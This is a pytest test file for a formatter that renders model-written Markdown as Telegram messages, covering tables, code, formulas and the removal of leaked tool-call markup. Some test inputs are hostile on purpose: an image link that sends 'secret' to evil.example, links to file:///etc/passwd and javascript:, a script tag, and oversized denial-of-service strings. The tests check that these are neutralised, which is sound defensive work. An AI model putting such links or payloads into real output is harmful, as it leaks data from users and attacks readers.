"""What a model writes, as Telegram is given it: readable, whole, and never markup of its own."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sessions.channels.telegram import leaks
from sessions.channels.telegram.formatting import spans_of, to_html, written
from sessions.channels.telegram.splitting import units
from tests.fakes.telegram_rules import read_text


def looks(markdown: str) -> list[tuple[str, str]]:
    formatted = spans_of(markdown)
    coded = formatted.text.encode("utf-16-le")
    return [
        (span.kind, coded[span.offset * 2 : span.end * 2].decode("utf-16-le"))
        for span in formatted.spans
    ]


def test_markdown_becomes_text_with_spans() -> None:
    markdown = "# Title\n\n**bold** *it* ~~no~~ `x` [here](https://x.org)\n\n- a\n- [x] b\n\n> said"
    assert spans_of(markdown).text == "Title\n\nbold it no x here\n\n• a\n☑ b\n\nsaid"
    assert set(looks(markdown)) == {
        ("bold", "Title"),
        ("underline", "Title"),
        ("bold", "bold"),
        ("italic", "it"),
        ("strikethrough", "no"),
        ("code", "x"),
        ("text_link", "here"),
        ("blockquote", "said"),
    }


def test_html_is_shown_as_it_was_written() -> None:
    markdown = "Use <b>x</b> and `<i>`:\n\n<div>\n`<p>`\n</div>\n\n<!-- hi --> & &amp; <script>"
    assert spans_of(markdown).text == (
        "Use <b>x</b> and <i>:\n\n<div>\n<p>\n</div>\n\n<!-- hi --> & & <script>"
    )
    assert to_html(spans_of("<b>x</b> **y**")) == "&lt;b&gt;x&lt;/b&gt; <b>y</b>"


def test_nothing_a_model_writes_mentions_people_fetches_pictures_or_hides_text() -> None:
    markdown = (
        "[you](tg://user?id=1) ![pixel](https://evil.example/?q=secret) ![](https://e.example/p)"
        " ![e](tg://emoji?id=5368324170671202286) a || b || c [f](file:///etc/passwd)"
        " [j](javascript:alert)"
    )
    formatted = spans_of(markdown)
    assert {span.kind for span in formatted.spans} <= {"text_link"}
    assert {span.url for span in formatted.spans} <= {
        "https://evil.example/?q=secret",
        "https://e.example/p",
    }
    assert "a || b || c" in formatted.text
    rich = written(markdown + "\n\n| a |\n|---|\n| <img src=x> ![p](https://e.example/) |").rich
    assert "<img" not in rich
    assert "tg-spoiler" not in rich
    assert 'href="tg:' not in rich
    assert "https://e.example/" in rich


def test_code_stays_as_it_is() -> None:
    code = "a || b <b> \\(x\\) \\[ \\alpha \\] ![p](u) [r]: z"
    assert looks(f"```sh\n{code}\n```") == [("pre", code)]
    assert looks(f"`{code}`") == [("code", code)]
    assert spans_of(f"```sh\n{code}\n```").spans[0].language == "sh"


def test_formulas_are_readable() -> None:
    assert spans_of("So \\( \\frac{a}{b} \\) costs $5 and $6.").text == "So a/b costs $5 and $6."


def test_sources_that_nothing_refers_to_are_kept() -> None:
    text = spans_of("See [docs][1].\n\n[1]: https://a.example\n[2]: https://b.example").text
    assert text == "See docs.\n[2]: https://b.example"


def test_a_narrow_table_is_aligned_and_a_wide_one_becomes_a_list() -> None:
    narrow = "| a | b |\n|---|---|\n| 1 | two<br>lines |"
    assert looks(narrow) == [("pre", "a | b        \n--+----------\n1 | two lines")]
    wide = (
        "| Plan | What it has | Price |\n|---|---|---|\n"
        "| Free | one agent and `10` chats a day | 0 |\n| **Pro** | everything there is | |"
    )
    assert spans_of(wide).text == (
        "Free\n• What it has: one agent and 10 chats a day\n• Price: 0\n\n"
        "Pro\n• What it has: everything there is"
    )
    assert looks(wide) == [("bold", "Free"), ("code", "10"), ("bold", "Pro")]


def test_only_what_spans_cannot_show_has_a_rich_form() -> None:
    assert written("# A\n\n**b** | c").rich == ""
    assert "<table>" in written("| a | b |\n|---|---|\n| 1 | 2 |").rich
    assert "math" in written("$$ x^2 $$").rich
    assert written("| a |\n|---|\n" + "| b |\n" * 6_000).rich == ""


MARKUP = (
    *("**", "*", "`", "```\n", "~~", "[a](https://x.org)", "> ", "- ", "# ", "\n", "\n\n", "|"),
    *("word", "💡", "<b>", "</div>", "||", "$", "\\(", "\\)", "&lt;", "![x](y)", " "),
)


@given(st.lists(st.sampled_from(MARKUP), max_size=40).map("".join))
def test_every_form_of_any_text_is_one_that_the_api_takes(markdown: str) -> None:
    formatted = spans_of(markdown)
    entities = [
        {"type": span.kind, "offset": span.offset, "length": span.length, "url": span.url}
        for span in formatted.spans
    ]
    # The fake refuses what the real API refuses.
    read_text({"text": formatted.text, "entities": entities}, "text", "entities", 4_096)
    text, _ = read_text(
        {"text": to_html(formatted), "parse_mode": "HTML"}, "text", "entities", 4_096
    )
    assert text == formatted.text
    assert units(formatted.text) <= units(markdown) * 3 + 20
    # Words come through whatever stands around them.
    assert formatted.text.count("word") == markdown.count("word") or re.search(
        r"\]: ?|```[^\n]*word", markdown
    )


@pytest.mark.parametrize(
    "hostile",
    ["![" * 15_000, "<" * 20_000, "||" * 15_000, "> " * 3_000, "`" * 20_000, "\\(" * 12_000],
)
def test_a_hostile_text_comes_through_in_time(hostile: str) -> None:
    assert spans_of(hostile).text


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ('Hi\n<tool_call>\n{"name": "x"}\n</tool_call>\nthere', "Hi\n\nthere"),
        ('Done. <tool_call>{"name": "x', "Done."),
        ("```tool_code\nprint(1)\n```\nDone", "Done"),
        ("<function=f><parameter=a>1</parameter></function>ok", "ok"),
        ('<invoke name="f"><parameter name="a">1</parameter></invoke> ok', "ok"),
        ("<tool_call>\n```json\n{}\n```\n</tool_call>\nok", "ok"),
        ('[TOOL_CALLS] [{"name": "x"}]', ""),
        ("<｜tool▁calls▁begin｜>x<｜tool▁calls▁end｜>ok", "ok"),
    ],
)
def test_leaked_tool_calls_are_removed(said: str, shown: str) -> None:
    assert leaks.without_calls(said) == shown


@pytest.mark.parametrize(
    "said",
    [
        "Hermes models write <tool_call> before a call.",
        "```xml\n<tool_call>{}</tool_call>\n```",
        "Write `<tool_call>{}</tool_call>` like this.",
        "```python\ndef tool_code(): ...\n```",
        "A function=call is no mark.",
    ],
)
def test_code_and_sentences_about_calls_stay(said: str) -> None:
    assert leaks.without_calls(said) == said
